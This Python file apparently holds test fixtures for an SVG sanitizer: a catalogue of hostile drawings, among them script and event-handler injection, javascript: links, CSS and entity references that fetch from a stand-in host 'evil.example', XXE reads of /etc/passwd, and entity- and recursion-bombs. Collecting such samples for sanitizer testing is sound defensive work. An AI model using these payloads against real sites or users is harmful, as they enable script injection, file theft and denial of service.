"""Drawings that want more than to be seen, by what they try. Each must come out harmless, or be refused."""

from __future__ import annotations

import base64

SVG, XLINK = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"
HTML = "http://www.w3.org/1999/xhtml"
EVIL = "https://evil.example/x"

INNER = {
    "script": "<script>alert(1)</script>",
    "script of another language": '<script type="text/ecmascript">alert(1)</script>',
    "script as data": "<script><![CDATA[alert(1)]]></script>",
    "script from elsewhere": f'<script href="{EVIL}.js"/>',
    "script from elsewhere by xlink": f'<script xlink:href="{EVIL}.js"/>',
    "script in a prefix": f'<s:script xmlns:s="{SVG}">alert(1)</s:script>',
    "script of html": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "script deep in groups": "<g><g><defs><symbol><script>alert(1)</script></symbol></defs></g></g>",
    "script in a title": "<title><script>alert(1)</script></title>",
    "handler on load": '<rect onload="alert(1)"/>',
    "handler on click": '<g onclick="alert(1)"><rect/></g>',
    "handler with large letters": '<rect ONLOAD="alert(1)" OnClick="alert(1)"/>',
    "handler of an animation": '<animate attributeName="x" onbegin="alert(1)" dur="1s"/>',
    "handler of focus": '<rect tabindex="1" onfocus="alert(1)" autofocus=""/>',
    "handler element": '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
    "foreign object": '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
    "foreign object with a frame": f'<foreignObject><iframe xmlns="{HTML}" src="{EVIL}"/></foreignObject>',
    "html without a foreign object": f'<img xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}" onerror="alert(1)"/>',
    "frame": f'<iframe src="{EVIL}"/>',
    "embedded object": f'<object data="{EVIL}"/><embed src="{EVIL}"/>',
    "audio and video": f'<audio src="{EVIL}"/><video href="{EVIL}"/>',
    "base element": f'<base href="{EVIL}"/>',
    "link to a script": '<a href="javascript:alert(1)"><rect/></a>',
    "link to a script by xlink": '<a xlink:href="javascript:alert(1)"><rect/></a>',
    "link to a script with a line break": '<a href="java&#10;script:alert(1)"><rect/></a>',
    "link to a script with a space before": '<a href=" &#9;javascript:alert(1)"><rect/></a>',
    "link to data": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><rect/></a>',
    "link elsewhere": f'<a href="{EVIL}"><rect/></a>',
    "link by a prefix of its own": f'<a xmlns:q="{XLINK}" q:href="javascript:alert(1)"><rect/></a>',
    "use of another file": f'<use href="{EVIL}.svg#a"/>',
    "use of data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    "use of a file": '<use href="other.svg#a"/>',
    "image elsewhere": f'<image href="{EVIL}.png" width="9" height="9"/>',
    "image by a path": '<image href="/etc/passwd"/><image href="file:///etc/passwd"/>',
    "image that is a drawing": f'<image href="data:image/svg+xml,&lt;svg xmlns=%27{SVG}%27 onload=%27x()%27/&gt;"/>',
    "image that lies about its type": '<image href="data:image/png;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"/>',
    "image too large to decode": '<image href="data:image/png;base64,'
    + base64.b64encode(
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (60_000).to_bytes(4, "big") * 2 + b"\x08\x06\0\0\0" + bytes(20)
    ).decode()
    + '"/>',
    "filter image elsewhere": f'<filter id="f"><feImage href="{EVIL}.png"/></filter><rect filter="url(#f)"/>',
    "gradient elsewhere": f'<linearGradient id="g" href="{EVIL}.svg#g"/><rect fill="url(#g)"/>',
    "paint elsewhere": f'<rect fill="url({EVIL}.svg#p)"/>',
    "mask elsewhere": f"<rect mask=\"url('{EVIL}.svg#m')\"/>",
    "filter elsewhere": f'<rect filter="URL( &quot;{EVIL}.svg#f&quot; )"/>',
    "marker elsewhere": f'<path d="M0 0L9 9" marker-end="url({EVIL}#m)"/>',
    "cursor elsewhere": f'<rect style="cursor:url({EVIL}),auto"/><cursor href="{EVIL}"/>',
    "style with an address": f'<rect style="fill:url({EVIL})"/>',
    "style with an address in escapes": '<rect style="fill:\\75\\72\\6c(https://evil.example)"/>',
    "style with an address between comments": f'<rect style="fill:ur/**/l({EVIL}); stroke:url(/**/{EVIL})"/>',
    "style with an expression": '<rect style="width:expression(alert(1))"/>',
    "style with a binding": f'<rect style="-moz-binding:url({EVIL}#x);behavior:url({EVIL})"/>',
    "style with a set of images": f"<rect style=\"mask:image-set('{EVIL}' 1x)\"/>",
    "style with a source": f"<rect style=\"mask:src('{EVIL}')\"/>",
    "style with an address in a variable": f'<rect style="--a:url({EVIL});mask:var(--a)"/>',
    "sheet that imports": f"<style>@import '{EVIL}.css';</style>",
    "sheet that imports by address": f"<style>@import url({EVIL}.css) screen;</style>",
    "sheet that imports in escapes": f"<style>@\\69mport '{EVIL}.css';</style>",
    "sheet that imports within a rule": f"<style>@media all{{@import '{EVIL}.css';}}</style>",
    "sheet with a font": f"<style>@font-face{{font-family:a;src:url({EVIL}.woff)}}</style><text>a</text>",
    "sheet with an address": f"<style>rect{{fill:url({EVIL})}}</style><rect/>",
    "sheet with a string that ends early": f"<style>rect{{font-family:'\n;fill:url({EVIL})}}</style><rect/>",
    "sheet that ends its element": "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    "sheet with content": f"<style>text::before{{content:url({EVIL})}}</style><text>a</text>",
    "sheet that tells what it sees": f"<style>a[href^='x']{{background:url({EVIL}?x)}}</style>",
    "sheet of another language": '<style type="text/javascript">alert(1)</style>',
    "animation of a link": '<a href="#x"><animate attributeName="href" values="javascript:alert(1)"/><rect/></a>',
    "animation of a link by xlink": '<a href="#x"><set attributeName="xlink:href" to="javascript:alert(1)"/></a>',
    "animation of a handler": '<rect><set attributeName="onclick" to="alert(1)"/></rect>',
    "animation of a style": f'<rect><animate attributeName="style" to="fill:url({EVIL})"/></rect>',
    "animation to an address": f'<rect><animate attributeName="fill" values="red;url({EVIL})" dur="1s"/></rect>',
    "animation of what is elsewhere": f'<animate href="{EVIL}.svg#a" attributeName="x" to="1"/>',
    "another base": f'<g xml:base="{EVIL}"><use href="#a"/></g>',
    "attribute that breaks out by its namespace": '<rect xmlns:e="aria-x=&quot;&gt;&lt;script&gt;" e:a="1"/>',
    "element that breaks out by its namespace": '<e:g xmlns:e="x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>',
    "text that breaks out": "<text>&lt;script&gt;alert(1)&lt;/script&gt;]]&gt;</text>",
    "value that breaks out": '<rect class="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>',
    "id that breaks out": '<rect id="a&quot; onload=&quot;alert(1)"/>',
    "noise without end": '<filter id="f"><feTurbulence numOctaves="1000000000"/></filter>',
    "kernel without end": '<filter id="f"><feConvolveMatrix order="5000" kernelMatrix="1"/></filter>',
    "drawing that draws itself": '<g id="a"><use href="#a"/></g>',
    "drawings that draw each other": '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
    "pattern of itself": '<pattern id="p"><rect fill="url(#p)"/></pattern><rect fill="url(#p)"/>',
    "pattern of itself by a sheet": '<style>.a{fill:url(#p)}</style><pattern id="p"><rect class="a"/></pattern>',
    "drawing that multiplies": "".join(
        f'<g id="a{step}">{f"""<use href="#a{step + 1}"/>""" * 10}</g>' for step in range(9)
    )
    + '<rect id="a9"/>',
    "patterns that multiply": "".join(
        f'<pattern id="p{step}">{f"""<rect fill="url(#p{step + 1})"/>""" * 20}</pattern>' for step in range(8)
    )
    + '<pattern id="p8"><rect/></pattern>',
    "groups without end": "<g>" * 5000 + "</g>" * 5000,
    "chain without end": "".join(f'<g id="a{step}"><use href="#a{step + 1}"/></g>' for step in range(3000)),
    "elements without end": "<g/>" * 120_000,
    "attributes without end": "<rect " + " ".join(f'a{number}="1"' for number in range(3000)) + "/>",
    "unknown entity": "<text>&xxe;</text>",
    "metadata with a page": '<metadata><p xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)">x</p></metadata>',
}
"""By what stands within an svg element."""

WHOLE = {
    "handler of the root": f'<svg xmlns="{SVG}" onload="alert(1)"/>',
    "entities that multiply": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + step)} "{f"&{chr(97 + step)};" * 10}">' for step in range(9))
    + f']><svg xmlns="{SVG}"><text>&j;</text></svg>',
    "entity from a file": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="{SVG}">&x;</svg>',
    "entity from elsewhere": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{EVIL}">]><svg xmlns="{SVG}"><text>&x;</text></svg>',
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{EVIL}.dtd"> %x;]><svg xmlns="{SVG}"/>',
    "entity in an attribute": f'<!DOCTYPE svg [<!ENTITY x "alert(1)">]><svg xmlns="{SVG}" onload="&x;"/>',
    "default attribute": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="{SVG}"/>',
    "document type elsewhere": f'<!DOCTYPE svg SYSTEM "{EVIL}.dtd"><svg xmlns="{SVG}"><text>&x;</text></svg>',
    "sheet by instruction": f'<?xml-stylesheet href="{EVIL}.css"?><svg xmlns="{SVG}"/>',
    "transformation by instruction": f'<?xml-stylesheet type="text/xsl" href="#a"?><svg xmlns="{SVG}"/>',
    "another encoding": '<?xml version="1.0" encoding="utf-7"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "page": "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "page that holds a drawing": f'<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="{SVG}"/></html>',
    "drawing without a namespace": "<svg onload='alert(1)'/>",
    "drawing of another namespace": '<svg xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>',
    "what is cut off": f'<svg xmlns="{SVG}"><g onload="alert(1)">',
    "two roots": f'<svg xmlns="{SVG}"/><script>alert(1)</script>',
    "nothing": "",
}
"""By the whole file."""


def within(inner: str) -> bytes:
    return f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 10 10">{inner}</svg>'.encode()


SAMPLES = {**{name: within(inner) for name, inner in INNER.items()}, **{n: t.encode() for n, t in WHOLE.items()}}
